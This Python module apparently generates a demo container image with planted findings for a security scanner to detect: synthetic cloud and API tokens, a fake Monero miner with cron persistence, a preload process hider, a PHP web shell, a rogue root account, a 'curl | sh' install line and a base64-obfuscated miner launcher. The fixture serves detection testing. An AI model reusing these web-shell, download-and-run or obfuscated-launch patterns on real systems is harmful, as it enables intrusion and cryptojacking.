"""The built-in demo image: a small made-up service image with planted findings in several layers.

It is written on the fly with `explorer.demo.imagewriter` (no daemon, no network). Secrets are generated
from a fixed seed at run time, so this source file holds no token that a scanner would flag.
"""

from __future__ import annotations

import base64
import hashlib
import os
import random
import string
import tempfile
from pathlib import Path

from explorer.detectors.heuristics.monero import make_address
from explorer.detectors.token_checksums import with_checksum
from explorer.demo.imagewriter import Entry, ImageSpec, Layer, write_image

DEMO_TAG = "explorer-demo:latest"


def _token(rng: random.Random, n: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def _elf(marker: bytes, size: int = 4096) -> bytes:
    """A fake 64-bit ELF header followed by filler and some strings; never a runnable program."""
    head = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
    body = head + b"\x00" * 40 + marker
    return body + b"\x00" * max(0, size - len(body))


def _elf_library(exports: list[str], imports: list[str], strings: bytes) -> bytes:
    """A 64-bit ELF shared object with only a dynamic symbol table (exported functions defined, imported
    ones undefined) and some strings: what symbol readers see of a preload library; never loadable."""
    import struct

    dynstr = b"\0" + b"".join(n.encode() + b"\0" for n in exports + imports)
    symbols = [bytes(24)]
    at = 1
    for number, name in enumerate(exports + imports):
        shndx = 4 if number < len(exports) else 0  # defined in the strings section, or undefined
        symbols.append(struct.pack("<IBBHQQ", at, 0x12, 0, shndx, 0x100 if shndx else 0, 16 if shndx else 0))
        at += len(name) + 1
    dynsym = b"".join(symbols)
    shstr = b"\0.dynsym\0.dynstr\0.shstrtab\0.rodata\0"
    body = dynsym + dynstr + shstr + strings
    offsets = [64, 64 + len(dynsym), 64 + len(dynsym) + len(dynstr), 64 + len(dynsym) + len(dynstr) + len(shstr)]
    shoff = 64 + len(body) + (-len(body) % 8)
    head = (b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHIQQQIHHHHHH", 3, 0x3E, 1, 0, 0, shoff, 0, 64,
                                                                 56, 0, 64, 5, 3))
    sections = [bytes(64),
                struct.pack("<IIQQQQIIQQ", 1, 11, 2, 0, offsets[0], len(dynsym), 2, 1, 8, 24),
                struct.pack("<IIQQQQIIQQ", 9, 3, 2, 0, offsets[1], len(dynstr), 0, 0, 1, 0),
                struct.pack("<IIQQQQIIQQ", 17, 3, 0, 0, offsets[2], len(shstr), 0, 0, 1, 0),
                struct.pack("<IIQQQQIIQQ", 27, 1, 2, 0, offsets[3], len(strings), 0, 0, 1, 0)]
    return head + body + bytes(-len(body) % 8) + b"".join(sections)


def demo_spec(integrity: bool = False) -> ImageSpec:
    """The demo image. With `integrity`, layer 1's diff_id in the config is wrong (the layer still reads
    fine): the UI's demo shows an integrity finding too, while `explorer scan` on the plain demo
    exits 1, not 2 (a damaged image is bad input)."""
    rng = random.Random(20261128)
    github = with_checksum("ghp_", _token(rng, 36))  # well-formed: a failed checksum would lower it
    aws_id = "AKIA" + _token(rng, 16, string.ascii_uppercase + "234567")
    aws_secret = _token(rng, 40, string.ascii_letters + string.digits + "+/")
    npm = with_checksum("npm_", _token(rng, 36))
    slack = "xoxb-" + "-".join(_token(rng, n, string.digits) for n in (12, 13)) + "-" + _token(rng, 24)
    pool = "stratum+tcp://pool.supportxmr.com:3333"
    wallet = make_address(18, rng.randbytes(64))  # a well-formed Monero address (valid checksum)
    miner = _elf(b"XMRig 6.21.0\x00--donate-level\x00--randomx-1gb-pages\x00--cpu-priority\x00rx/0\x00"
                 b"cryptonight\x00" + pool.encode() + b"\x00", 16384)
    base = Layer([
        Entry.dir("/bin"), Entry.file("/bin/busybox", _elf(b"BusyBox v1.36.1 multi-call binary"), 0o755),
        Entry.symlink("/bin/sh", "busybox"),
        Entry.dir("/etc"),
        Entry.file("/etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n"),
        Entry.file("/etc/shadow", b"root:*:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n", 0o640),
        Entry.file("/etc/os-release", b'PRETTY_NAME="Demo Linux 1.0"\nID=demo\n'),
        Entry.dir("/root", 0o700), Entry.dir("/tmp", 0o1777), Entry.dir("/srv"),
        Entry.dir("/usr"), Entry.dir("/usr/bin"),
    ], created_by="/bin/sh -c #(nop) ADD file:4f1c0b3e9d7a in / ", compression="gzip")
    curl = _elf(b"curl 8.5.0 libcurl")
    tools = Layer([
        Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", curl, 0o755),
        Entry.dir("/var"), Entry.dir("/var/lib"), Entry.dir("/var/lib/apt"), Entry.dir("/var/lib/apt/lists"),
        Entry.dir("/var/lib/dpkg"), Entry.dir("/var/lib/dpkg/info"),
        Entry.file("/var/lib/dpkg/status", b"Package: curl\nStatus: install ok installed\nPriority: optional\n"
                                           b"Architecture: amd64\nVersion: 7.88.1-10+deb12u5\n"
                                           b"Description: command line tool for transferring data with URL syntax\n\n"),
        Entry.file("/var/lib/dpkg/info/curl.list", b"/.\n/usr\n/usr/bin\n/usr/bin/curl\n"),
        Entry.file("/var/lib/dpkg/info/curl.md5sums", hashlib.md5(curl).hexdigest().encode() + b"  usr/bin/curl\n"),
        Entry.file("/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease", b"Origin: Debian\n" * 200),
    ], created_by="/bin/sh -c apt-get update && apt-get install -y curl", compression="zstd",
        wrong_diff_id=integrity)
    app = Layer([
        Entry.dir("/srv/app"),
        Entry.file("/srv/app/app.py", b"import os\n\nTOKEN = os.environ.get('GITHUB_TOKEN')\nprint('hello')\n"),
        Entry.file("/srv/app/.env", f"APP_ENV=production\nGITHUB_TOKEN={github}\nSLACK_BOT_TOKEN={slack}\n".encode()),
        Entry.dir("/root/.aws", 0o700),
        Entry.file("/root/.aws/credentials",
                   f"[default]\naws_access_key_id = {aws_id}\naws_secret_access_key = {aws_secret}\n".encode(), 0o600),
    ], created_by="COPY app/ /srv/app/ # buildkit", compression="gzip")
    dropper = Layer([
        Entry.dir("/tmp/.x"),
        Entry.file("/tmp/.x/kworker", miner, 0o755),
        Entry.file("/tmp/.x/config.json", ('{"autosave": true, "donate-level": 1, "cpu": {"enabled": true},\n'
                                           ' "pools": [{"algo": "rx/0", "url": "pool.supportxmr.com:3333",\n'
                                           f'   "user": "{wallet}", "pass": "x", "tls": false}}]}}\n').encode()),
        Entry.dir("/etc/cron.d"),
        Entry.file("/etc/cron.d/sysupdate", b"*/5 * * * * root /tmp/.x/kworker -c /tmp/.x/config.json >/dev/null 2>&1\n"),
        Entry.file("/etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n"),
        Entry.dir("/usr/local"), Entry.dir("/usr/local/lib"),
        Entry.file("/usr/local/lib/libprocesshider.so",
                   _elf_library(["readdir", "readdir64"], ["dlsym"], b"/proc/self/fd/%d\x00/proc/%s/stat\x00kworker\x00")),
    ], created_by="/bin/sh -c curl -fsSL http://203.0.113.7/install.sh | sh", compression="gzip")
    cleanup = Layer([
        Entry.whiteout("/srv/app/.env"),
        Entry.whiteout("/tmp/.x"),
        # `rm -rf DIR && mkdir DIR` in one step: an opaque folder (the lists of layer 1 hidden, still shipped)
        Entry.dir("/var/lib/apt/lists"), Entry.opaque("/var/lib/apt/lists"),
    ], created_by="/bin/sh -c rm -rf /srv/app/.env /tmp/.x /var/lib/apt/lists && mkdir /var/lib/apt/lists",
        compression="gzip")
    access = Layer([
        Entry.dir("/root/.ssh", 0o700),
        Entry.file("/root/.ssh/authorized_keys",
                   b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + _token(rng, 43).encode() + b" op@c2\n", 0o600),
        Entry.dir("/var/www"), Entry.dir("/var/www/html"),
        Entry.file("/var/www/html/up.php", b"<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>\n"),
        Entry.file("/var/www/html/logo.png", _elf(b"\x00reverse\x00/bin/sh\x00")),
        Entry.file("/bin/ps", _elf(b"procps"), 0o4755),
        Entry.dir("/etc"),
        Entry.file("/etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n"
                                  b"sysupdate:x:0:0:system update:/var/tmp:/bin/sh\n"),
        Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", _elf(b"curl 8.5.0 libcurl patched"), 0o755),
        Entry.file("/usr/bin/kworkerds", miner, 0o755),
        Entry.dir("/usr/local"), Entry.dir("/usr/local/bin"),
        Entry.file("/usr/local/bin/healthcheck.sh", b"#!/bin/sh\n# keep the service healthy\necho " + base64.b64encode(
            f"nohup /usr/bin/kworkerds -o {pool} -u {wallet} -p x --donate-level 1 >/dev/null 2>&1 &\n".encode())
            + b" | base64 -d | sh\n", 0o755),
    ], created_by="/bin/sh -c #(nop) COPY dir:9a1f3 in / ", compression="none")
    return ImageSpec(
        layers=[base, tools, app, dropper, cleanup, access],
        env=["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
             f"AWS_SECRET_ACCESS_KEY={aws_secret}", "APP_ENV=production"],
        cmd=["/bin/sh", "-c", "python3 /srv/app/app.py"],
        labels={"maintainer": "demo@example.com"},
        volumes=["/var/run/docker.sock"],
        extra_history=[(2, f"|1 NPM_TOKEN={npm} /bin/sh -c #(nop) ARG NPM_TOKEN"),
                       (4, "/bin/sh -c #(nop)  ENV AWS_SECRET_ACCESS_KEY=" + aws_secret)],
        tag=DEMO_TAG,
    )


def cached_demo() -> str | None:
    """The demo image in the cache folder (`explorer.core.locations.cache_dir`), written there on first use.

    Its name carries a hash of the code that makes it, so a changed demo is written anew. None when
    the cache folder cannot be written or is not safe to use (a symlink, someone else's, writable by
    others: `explorer.core.locations.usable_folder`), or the file there is not a regular file of this user:
    the caller then writes it to a temporary folder of its own (`write_demo`).
    """
    from explorer.core.locations import check_file, usable_folder
    from explorer.core.locations import cache_dir

    import explorer.detectors.heuristics.monero as monero
    import explorer.demo.imagewriter as imagewriter

    digest = hashlib.sha256()
    for module in (__file__, imagewriter.__file__, monero.__file__):
        digest.update(Path(module).read_bytes())
    folder = cache_dir()
    path = folder / f"explorer-demo-{digest.hexdigest()[:16]}.tar"
    try:
        usable_folder(folder)
        if check_file(path):
            return str(path)
        fd, partial = tempfile.mkstemp(prefix=".explorer-demo-", suffix=".tar", dir=folder)
        os.close(fd)
        try:
            write_image(demo_spec(integrity=True), partial, format="docker-archive")
            os.replace(partial, path)
        finally:
            if os.path.exists(partial):
                os.unlink(partial)
    except OSError:
        return None
    return str(path)


def write_demo(folder: str | None = None, integrity: bool = False) -> str:
    """Write the demo image as a docker-archive and return its path."""
    folder = folder or tempfile.mkdtemp(prefix="explorer-demo-")
    path = os.path.join(folder, "explorer-demo.tar")
    write_image(demo_spec(integrity), path, format="docker-archive")
    return path
